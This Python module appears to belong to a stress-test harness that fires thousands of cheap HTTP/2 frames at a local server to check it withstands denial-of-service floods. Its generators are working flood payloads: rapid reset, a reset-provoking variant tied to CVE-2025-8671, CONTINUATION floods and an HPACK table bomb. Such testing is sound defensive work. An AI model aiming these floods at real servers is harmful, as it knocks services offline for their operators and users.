"""Floods: HTTP/2 frames that cost their sender nothing, by the thousand."""

from __future__ import annotations

import asyncio
import contextlib
import struct
from collections.abc import Iterator
from random import Random

import hpack

from .frames import (
    CONTINUATION,
    DATA,
    HEADERS,
    MARK,
    PING,
    PREFACE,
    PRIORITY,
    QUIET,
    RST,
    SETTINGS,
    WINDOW,
    Conversation,
    Http2,
    frame,
)
from .judge import Input


class Floods(Http2):
    """Sends thousands of frames that cost their sender nothing. The server closes the connection or withstands them."""

    frames = 0
    """Sent so far."""

    async def throw(self, dice: Random, number: int) -> None:
        name = list(_FLOODS)[number % len(_FLOODS)]
        most = _SIZES[number // len(_FLOODS) % len(_SIZES)]
        sent = frame(SETTINGS, 0, 0)
        thrown = Input(self.name, number, f"{name}, {most} frames at most".encode())
        said = Conversation()
        reader, writer = await asyncio.open_connection("127.0.0.1", self.port)
        reading = asyncio.ensure_future(_listen(reader, said))
        try:
            with contextlib.suppress(ConnectionError):
                writer.write(PREFACE + sent)
                for some in _FLOODS[name](dice, most):
                    self.frames += 1
                    writer.write(some)
                    if self.frames % 100 == 0:
                        await writer.drain()
                    if reading.done():
                        break
                writer.write(frame(PING, 0, 0, MARK))
                await writer.drain()
            with contextlib.suppress(TimeoutError):
                async with asyncio.timeout(QUIET):
                    await asyncio.shield(reading)
        finally:
            writer.transport.abort()
            reading.cancel()
            (wrong,) = await asyncio.gather(reading, return_exceptions=True)
        if isinstance(wrong, (ValueError, hpack.HPACKError)):
            self.judge.fault(thrown, f"an answer that is no HTTP/2: {wrong!r}")
        self.judge.count(thrown, f"{name}: {'left' if said.away or wrong is None else 'borne'}")


async def _listen(reader: asyncio.StreamReader, said: Conversation) -> None:
    with contextlib.suppress(ConnectionError):
        while piece := await reader.read(65536):
            said.feed(piece)


def _head(encoder: hpack.Encoder, path: str = "/v1/dishes/1", method: str = "GET") -> bytes:
    return encoder.encode([(":method", method), (":scheme", "http"), (":path", path), (":authority", "localhost")])


def _rapid_reset(dice: Random, most: int) -> Iterator[bytes]:
    encoder = hpack.Encoder()
    for number in range(most):
        stream = 2 * number + 1
        yield frame(HEADERS, 5, stream, _head(encoder)) + frame(RST, 0, stream, struct.pack(">I", 8))


def _made_to_reset(dice: Random, most: int) -> Iterator[bytes]:
    """Makes the server reset the streams (CVE-2025-8671)."""
    encoder = hpack.Encoder()
    for number in range(most):
        stream = 2 * number + 1
        yield frame(HEADERS, 4, stream, _head(encoder, method="POST")) + frame(WINDOW, 0, stream, bytes(4))


def _settings_flood(dice: Random, most: int) -> Iterator[bytes]:
    return (frame(SETTINGS, 0, 0, struct.pack(">HI", 4, dice.randrange(2**31))) for _ in range(most))


def _ping_flood(dice: Random, most: int) -> Iterator[bytes]:
    return (frame(PING, 0, 0, dice.randbytes(8)) for _ in range(most))


def _continuations(dice: Random, most: int) -> Iterator[bytes]:
    yield frame(HEADERS, 0, 1, b"")
    for _ in range(most):
        yield frame(CONTINUATION, 0, 1, dice.choice((b"", b"\x40\x01a\x01b" * 100)))


def _hpack_bomb(dice: Random, most: int) -> Iterator[bytes]:
    """Stores one field of 4,000 bytes in the table and repeats it by one byte each time."""
    bomb = b"\x40\x01a\x7f" + bytes([0xA1, 0x1E]) + b"v" * 4000
    for number in range(most // 20):
        yield frame(HEADERS, 5, 2 * number + 1, (bomb if number == 0 else b"") + b"\xbe" * 10000)


def _empty_data(dice: Random, most: int) -> Iterator[bytes]:
    yield frame(HEADERS, 4, 1, _head(hpack.Encoder(), "/v1/echo", "POST"))
    for _ in range(most):
        yield frame(DATA, dice.choice((0, 8)), 1, b"\x00" * dice.choice((0, 1)))


def _priorities(dice: Random, most: int) -> Iterator[bytes]:
    return (frame(PRIORITY, 0, dice.randrange(1, 999, 2), dice.randbytes(5)) for _ in range(most))


def _windows(dice: Random, most: int) -> Iterator[bytes]:
    return (frame(WINDOW, 0, 0, struct.pack(">I", 1)) for _ in range(most))


def _many_streams(dice: Random, most: int) -> Iterator[bytes]:
    """Sends requests that never end, and opens no window for the answers."""
    encoder = hpack.Encoder()
    yield frame(SETTINGS, 0, 0, struct.pack(">HI", 4, 0))
    for number in range(most):
        ticks = number % 2
        head = _head(encoder, "/v1/ticks?count=100000" if ticks else "/v1/sum", "GET" if ticks else "POST")
        yield frame(HEADERS, 5 if ticks else 4, 2 * number + 1, head)


def _unknown(dice: Random, most: int) -> Iterator[bytes]:
    return (frame(200, dice.randrange(256), dice.randrange(9), b"x" * dice.choice((0, 100))) for _ in range(most))


_SIZES = (20000, 200, 3000)
_FLOODS = {
    "rapid reset": _rapid_reset,
    "made to reset": _made_to_reset,
    "settings": _settings_flood,
    "pings": _ping_flood,
    "continuations": _continuations,
    "hpack bomb": _hpack_bomb,
    "empty data": _empty_data,
    "priorities": _priorities,
    "window updates": _windows,
    "many streams": _many_streams,
    "unknown frames": _unknown,
}
ROUND = len(_FLOODS)
"""The number of inputs after which each flood ran once; the first round has the largest."""
